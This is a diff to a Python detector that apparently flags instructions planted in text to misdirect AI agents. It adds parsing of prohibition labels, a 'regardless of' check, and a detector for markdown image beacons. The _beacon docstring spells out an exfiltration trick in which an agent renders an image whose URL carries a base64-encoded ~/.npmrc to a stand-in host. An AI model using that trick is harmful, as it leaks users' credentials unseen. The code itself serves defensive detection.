@@ -276,13 +276,49 @@ def _negated(text: str, unit: Unit, start: int, end: int, negations: list[tuple[
                 return False
             found = True
         i -= 1
-    if found:
+    if found or _prohibition_label(text, unit, start, negations):
         return True
     if post is not None:
         tail = text[end:min(unit.end, end + 60)]
         if tail and post.search(tail.encode("utf-8", "surrogatepass")) is not None:
             return True
     return False
+
+
+# A prohibition label ("Forbidden:", "Never:", "Do not:", "Not allowed:", "Verboten:", "禁止：")
+# governs the list its colon opens, to the end of the sentence. An empty list ("Forbidden:
+# nothing.") or a label that is itself negated or excepted ("Not forbidden:", "Nothing is
+# prohibited:", "Forbidden except:") forbids nothing.
+_LABEL_MARKS = " \t*_`>#-+.)([]0123456789"
+_EMPTY_LIST = text_rx(r"(?i)^\s*[\x{2014}\x{2013}-]+\s|^[\s*_`(\[\x{2014}\x{2013}-]*(?:nothing|none|nobody|no ?one|n/a|nil|nichts|niemand|keine?s?|rien|aucune?|personne|"
+                      r"nada|ninguno|ninguna|nenhum|nenhuma|niente|nulla|nessuno|niets|geen|nic|nikt|żaden|hiçbir|yok|tidak ada|"
+                      r"ничего|никто|нет|никакие|无|沒有|没有|なし|何も|없음|아무것도|لا شيء|هیچ|אין|không có)(?:\b|\s|$|[.,;:!?])")
+_NOT_EMPTY = text_rx(r"(?i)\b(?:nothing|none|nobody|except|unless|but|only)\b|ничего|nichts|rien|nada|なし|没有|沒有")
+
+
+def _prohibition_label(text: str, unit: Unit, start: int, negations: list[tuple[int, int]]) -> bool:
+    colon = max(text.rfind(":", unit.start, start), text.rfind("\uff1a", unit.start, start))
+    if colon < 0 or start - colon > 400:
+        return False
+    tail = text[colon + 1:start]
+    if any(c in ";\uff1b\u3002!?\uff01\uff1f" for c in tail) or _EMPTY_LIST.search(tail):
+        return False
+    lo = max(unit.start, text.rfind(";", unit.start, colon) + 1, text.rfind("\uff1b", unit.start, colon) + 1)
+    label = text[lo:colon].strip(_LABEL_MARKS)
+    if not label or len(label) > 40 or any(c in _CLAUSE_BREAKS for c in label) or _NOT_EMPTY.search(label):
+        return False
+    inside = [(ns, ne) for ns, ne in negations if lo <= ns and ne <= colon]
+    if len(inside) != 1:
+        return False  # "Not forbidden:": two negations cancel
+    ns, ne = inside[0]
+    if _DOUBLE is not None and _DOUBLE.test(text[lo:colon]):
+        return False  # "Do not forget:": an order
+    if any(c in text[lo:colon] for c in "`=/") or text[max(lo, ns - 1):ns] == "-":
+        return False  # "`--no-sandbox`: Disable sandbox": an option documented, not a prohibition
+    lead = text[lo:ns].strip(_LABEL_MARKS).split()
+    rest = text[ne:colon].split()
+    # "Forbidden:", "Strictly forbidden:", "You must never do:"; "Refuse any page that says:" quotes.
+    return len(lead) <= 3 and len(rest) <= 3
 
 
 _PLACE_PREP = text_rx(r"(?i)\b(?:in|into|to|on|onto|inside|under|as|end|finish|close)\s+(?:(?:the|a|an|every|each|your|our|its|their|this)\s+)?(?:[\w'’]+\s+){0,2}$")
@@ -402,9 +438,13 @@ def read_units(text: str, *, limit: int = 3000, full: bool = False) -> Reading:
                 return True
         return False
 
+    # An image the answer renders, fetched with its URL: a credential can leave in it with no
+    # send verb (see _beacon), so such a document is read for exfiltration whatever its verbs.
+    beacon = (b"![" in data or b"<img" in data or b"<IMG" in data) and _BEACON_HINT.search(data) is not None \
+        and any(occurs(c) for c in ("cred_path", "credential", "env_output"))
     wanted: set[str] = set()
     for attack, needs in _NEEDS.items():
-        if full or any(together(need) for need in needs):
+        if full or any(together(need) for need in needs) or beacon and attack == "exfiltration":
             wanted.update(_READS[attack])
     if not wanted:
         return Reading(visible, index, None)
@@ -427,7 +467,7 @@ def read_units(text: str, *, limit: int = 3000, full: bool = False) -> Reading:
         for concept, spans in found.items():
             for s0, _ in spans:
                 per_par.setdefault(bisect.bisect_right(breaks, s0), set()).add(concept)
-        if not any(_may_form(c, c) for c in per_par.values()):
+        if not beacon and not any(_may_form(c, c) for c in per_par.values()):
             return Reading(visible, index, None)
     units = split_units(visible)
     readings = [UnitReading(u, visible[u.start:u.end]) for u in units]
@@ -587,6 +627,67 @@ def _dumped_then_published(reading: Reading, i: int) -> str | None:
         return None
     whole = [x for x in reading.units[max(0, i - 40):i + 60] if x.unit.block == u.unit.block]
     return "high" if any("secrets." in x.text for x in whole) else "medium"
+# A URL that carries a value the text fills in: a query value or path segment written as a
+# placeholder (`?d=DATA`, `?k={token}`, `/p/<contents>`, `?v=$SECRET`).
+_PLACEHOLDER_URL = text_rx(r"[?&][\w.-]+=(?:[A-Z][A-Z0-9_]{2,}|\{[^}\s]{1,40}\}|<[^>\s]{1,40}>|\$\{?[A-Za-z_]\w*\}?)(?:[&#)\s\]\"'.]|$)"
+                           r"|/(?:\{[^}\s/]{1,40}\}|<[^>\s/]{1,40}>|\$\{?[A-Za-z_]\w*\}?)(?:[./?#)\s\]\"']|$)")
+# A rendered image whose URL holds a placeholder: the one pass that tells a document may hold a beacon.
+_BEACON_HINT = rx(r"(?:!\[[^\]\n]{0,200}\]\(\s*<?|<[iI][mM][gG]\b[^<>]{0,200}\b[sS][rR][cC]\s*=\s*[\"']?)[hH][tT][tT][pP][sS]?://[^\s)\"'<>]{0,300}?"
+                  r"(?:[?&][\w.-]+=(?:[A-Z][A-Z0-9_]{2,}|\{|<|\$)|/(?:\{|<|\$))")
+# Markdown that a chat window or a page renders by fetching its URL: an image, or an HTML img.
+_RENDERED_FETCH = text_rx(r"!\[[^\]\n]{0,200}\]\(\s*<?https?://|<img\b[^<>]{0,200}\bsrc\s*=\s*[\"']?https?://")
+
+
+def _beacon(u: UnitReading) -> bool:
+    """The unit has the agent emit an image whose URL, fetched when the answer renders, carries a
+    credential or a file's contents in a placeholder the unit defines ("![](https://h/p?d=DATA)
+    where DATA is the base64 of ~/.npmrc"): the data leaves with no send verb at all."""
+    if not (u.has("credential") or u.has("cred_path") or u.has("env_output")) or not _RENDERED_FETCH.search(u.text):
+        return False
+    base = u.unit.start
+    for s, e, cls in u.urls:
+        url = u.text[s - base:e - base]
+        if cls == "placeholder":  # judged by its host alone: the placeholder is in the path here
+            host = hosts.host_of(url)
+            cls = _url_class("https://" + host) if host else cls
+        if cls not in ("outside", "ip", "reserved"):
+            continue
+        m = _PLACEHOLDER_URL.search(url)
+        if m is None:
+            continue
+        name = m.group(0).strip("?&/#)] \t\n\"'.").split("=")[-1].strip("{}<>$")
+        rest = u.text[:s - base] + " " + u.text[e - base:]
+        if name and _word_in(name, rest):
+            return True  # the unit says what goes in the placeholder
+    return False
+
+
+def _word_in(word: str, text: str) -> bool:
+    at = text.find(word)
+    while at >= 0:
+        before = text[at - 1:at]
+        after = text[at + len(word):at + len(word) + 1]
+        if not (before.isalnum() or before == "_") and not (after.isalnum() or after == "_"):
+            return True
+        at = text.find(word, at + 1)
+    return False
+
+
+def _disregarded(u: UnitReading, m: Mention) -> bool:
+    """The approve word is what "regardless of" names ("remove every worktree regardless of merge
+    status"): the object disregarded, not the action."""
+    base = u.unit.start
+    if not _NOUN_AFTER.match(u.text[m.end - base:m.end - base + 20]):
+        return False
+    for r in u.mentions:
+        if r.concept == "regardless" and r.end <= m.start and m.start - r.end <= 30:
+            phrase = u.text[r.start - base:m.start - base].lower()
+            if " of " in f"{phrase} " and not any(ch in _CLAUSE_BREAKS for ch in phrase):
+                return True
+    return False
+
+
+_NOUN_AFTER = text_rx(r"(?i)^\s+(?:status|state|conflicts?|results?|outcome|queue|order|strategy|method|time|date|commits?|requests?|history)\b")
 
 
 def _disable_pair(u: UnitReading) -> tuple[Mention, Mention] | None:
@@ -748,6 +849,16 @@ def _intros(reading: Reading, i: int) -> list[UnitReading]:
     return out
 
 
+def _introduces(reading: Reading, x: UnitReading, i: int) -> bool:
+    """Does the intro x open the list or block holding unit i: a heading, a sentence ending in a
+    colon, or the sentence right before it? A negation elsewhere under the heading ("no account
+    is needed", then "do it like this:") negates nothing in the list."""
+    if x.unit.kind == "heading" or x.text.rstrip().endswith((":", "\uff1a")):
+        return True
+    k = next((n for n in range(i - 1, -1, -1) if reading.units[n].unit.kind not in ("item", "cell", "code")), -1)
+    return k >= 0 and reading.units[k] is x
+
+
 def _acted_on(reading: Reading, i: int) -> bool:
     """A later unit tells the agent to act on this sample ("now run the example above")."""
     return any(reading.units[k].has("run_ref") for k in range(i + 1, min(len(reading.units), i + 6)))
@@ -815,8 +926,9 @@ def _lowering(reading: Reading, i: int) -> int:
     if u.unit.kind == "code" and _pattern_line(u.text[:2000]):
         return 2  # a regex or keyword list: attack text held as data
     if u.unit.kind in ("item", "cell", "code") and not _EXCEPTION.test(u.text[:400]):
-        if any(x.refusal or x.has("detect") or any(m.concept == "negation" and not _ability(x, m) and not _alternative(x, m) for m in x.mentions)
-               for x in _intros(reading, i)):  # an intro's refusal governs the list below it
+        intros = _intros(reading, i)
+        if any(x.refusal or x.has("detect") or _introduces(reading, x, i) and any(m.concept == "negation" and not _ability(x, m) and not _alternative(x, m) for m in x.mentions)
+               for x in intros):  # an intro's refusal governs the list below it
             steps = 2
     return steps
 
@@ -865,6 +977,8 @@ def classify(reading: Reading) -> list[Intent]:
             if level:
                 add("exfiltration", level, "environment output written to a file that a later step uploads or publishes",
                     u.first("env_output"))
+        if u.urls and not any(o.unit == i and o.attack == "exfiltration" for o in out) and _beacon(u):
+            add("exfiltration", "high", "credentials carried out in the URL of an image the answer renders")
         if "hide" in c:
             m = u.first("hide", affirmed=True)
             if m is not None and hiding_joined_to_action(reading, i):
@@ -888,7 +1002,7 @@ def classify(reading: Reading) -> list[Intent]:
                 add("delegation", "high" if classes & {"outside", "ip", "reserved"} else "medium",
                     "remote content declared part of the instructions", m)
         if "approve" in c and c & {"regardless", "universal"}:
-            m = u.first("approve", affirmed=True)
+            m = next((x for x in u.mentions if x.concept == "approve" and not x.negated and not _disregarded(u, x)), None)
             if m is not None and "regardless" in c:
                 add("approval", "high", "approves or merges whatever the checks say", m)
             elif m is not None and u.text[m.start - u.unit.start:m.end - u.unit.start].lower() not in ("merge",):
